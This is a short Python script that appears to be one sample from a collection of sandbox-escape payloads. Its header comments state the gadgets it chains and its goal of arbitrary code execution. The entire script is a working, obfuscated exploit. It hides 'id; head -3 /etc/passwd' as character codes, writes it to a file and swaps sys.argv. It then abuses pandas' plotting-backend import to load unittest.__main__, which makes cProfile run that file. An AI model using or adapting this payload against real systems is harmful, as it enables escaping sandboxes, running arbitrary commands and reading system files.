# source: pandas plotting backend import (pandas/plotting/_core.py) + CPython Lib/unittest/__main__.py (runs main() on import) + unittest loader calling a named zero-argument callable + Lib/cProfile.py main() (compiles and runs the file named in sys.argv)
# family: plotting backend by position; sys.argv replaced by an unpacking target; a relative literal path written with data that is code
# goal: arbitrary code: the file the script wrote is run as Python by cProfile.main(); it runs `id` and prints /etc/passwd
import sys
import pandas as pd

code = "".join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 59, 32, 104, 101, 97, 100, 32, 45, 51, 32, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100, 39, 41]))
pd.Series([code]).to_csv("cProfile.main", index=False, header=False)
[sys.argv] = [["strategy", "cProfile.main"]]
u = chr(95) * 2
returns = pd.Series([0.01, -0.02, 0.015])
returns.hist(None, None, True, None, None, None, None, None, 10, "unittest." + u + "main" + u)
